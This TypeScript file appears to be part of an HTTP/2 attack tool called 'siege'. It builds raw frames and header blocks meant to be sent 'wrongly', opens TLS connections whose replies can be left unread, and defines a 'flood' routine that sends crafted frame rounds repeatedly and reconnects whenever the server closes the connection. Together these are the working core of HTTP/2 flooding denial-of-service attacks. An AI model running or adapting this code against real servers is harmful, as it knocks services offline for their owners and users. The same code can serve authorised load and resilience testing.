/** HTTP/2 as bytes, so that it can be spoken wrongly: frames, and header blocks without a table. */

import type { TLSSocket } from "node:tls";
import { pause, type Siege } from "./attack.ts";
import { letGo, openTls, unconnected } from "./wire.ts";

export const types = {
  data: 0,
  headers: 1,
  reset: 3,
  settings: 4,
  ping: 6,
  goAway: 7,
  windowUpdate: 8,
  continuation: 9,
} as const;
export const flags = { endStream: 1, ack: 1, endHeaders: 4, padded: 8 } as const;

/** length (3)   type (1)   flags (1)   stream (4)   payload */
export function frame(
  type: number,
  flagBits: number,
  stream: number,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flagBits;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Lengths from 127 on take more bytes, seven bits each. */
function prefixed(value: number, first: number): number[] {
  if (value < 127) return [first | value];
  const bytes = [first | 127];
  let rest = value - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128);
  return [...bytes, rest];
}

/** A field that no table keeps. */
export function literal(name: string, value: string): Buffer {
  const text = (it: string) =>
    Buffer.concat([Buffer.from(prefixed(it.length, 0)), Buffer.from(it)]);
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

export function headerBlock(
  method: string,
  path: string,
  fields: Readonly<Record<string, string>> = {},
): Buffer {
  const all = {
    ":method": method,
    ":scheme": "https",
    ":path": path,
    ":authority": "siege",
    ...fields,
  };
  return Buffer.concat(Object.entries(all).map(([name, value]) => literal(name, value)));
}

export function setting(id: number, value: number): Buffer {
  const bytes = Buffer.alloc(6);
  bytes.writeUInt16BE(id);
  bytes.writeUInt32BE(value, 2);
  return bytes;
}

export function number(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

export const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** A connection on which the preface and `settings` were said; what is answered is thrown away, or read by nobody. */
export async function openHttp2(
  siege: Siege,
  settings: Uint8Array = Buffer.alloc(0),
  reads = true,
): Promise<TLSSocket> {
  const socket = await openTls(siege, { protocol: "h2" });
  socket.write(Buffer.concat([preface, frame(types.settings, 0, 0, settings)]));
  if (reads) {
    socket.resume();
    socket.write(frame(types.settings, flags.ack, 0));
  } else socket.pause();
  return socket;
}

/** A server that takes nothing for so long is left alone. */
const drainMsMax = 1_000;

/** Resolves when the socket takes more, is gone, or seems to be. */
export async function push(socket: TLSSocket, bytes: Uint8Array): Promise<void> {
  if (socket.destroyed || socket.write(bytes)) return;
  await new Promise<void>((resolve) => {
    const done = (): void => {
      clearTimeout(timer);
      socket.removeListener("drain", done);
      socket.removeListener("close", done);
      resolve();
    };
    const timer = setTimeout(done, drainMsMax);
    socket.on("drain", done);
    socket.on("close", done);
  });
}

/** The frames of `round` over and over on one connection; a new one when the server ended it. */
export async function flood(
  siege: Siege,
  round: (from: number) => Buffer,
  settings?: Uint8Array,
): Promise<void> {
  try {
    const socket = await openHttp2(siege, settings);
    for (let at = 0; !siege.over() && !socket.destroyed; at++) {
      siege.tally.asked();
      await push(socket, round(at));
      await pause(5);
    }
    letGo(siege, socket);
  } catch (error) {
    unconnected(siege, error);
    await pause(50);
  }
}
